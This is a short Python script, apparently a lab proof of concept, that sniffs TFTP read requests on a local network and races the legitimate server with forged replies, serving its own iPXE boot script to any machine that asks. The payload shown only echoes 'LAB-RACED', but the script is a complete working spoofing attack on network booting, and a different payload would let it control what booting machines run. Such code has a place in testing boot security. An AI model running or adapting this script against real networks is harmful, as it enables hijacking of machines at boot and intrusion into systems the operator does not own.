"""Answers every TFTP read request that it overhears, from its own address, with a file of its own.

    tftp_race.py --mac MAC --ip IP
"""
import argparse
import time

from scapy.all import IP, UDP, AsyncSniffer, Ether, Raw, conf

conf.verb = 0
parser = argparse.ArgumentParser()
parser.add_argument("--mac", required=True)
parser.add_argument("--ip", required=True)
args = parser.parse_args()
socket = conf.L2socket(iface="eth0")


def heard(frame):
    payload = bytes(frame[UDP].payload)
    if payload[:2] == b"\x00\x01" and frame[IP].src != args.ip:
        data = b"\x00\x03\x00\x01" + b"#!ipxe\necho LAB-RACED\n"
        socket.send(Ether(src=args.mac, dst=frame[Ether].src) / IP(src=args.ip, dst=frame[IP].src) / UDP(sport=50069, dport=frame[UDP].sport) / Raw(data))


AsyncSniffer(iface="eth0", filter="udp dst port 69", prn=heard, store=False, promisc=True, started_callback=lambda: print("ready", flush=True)).start()
while True:
    time.sleep(1)
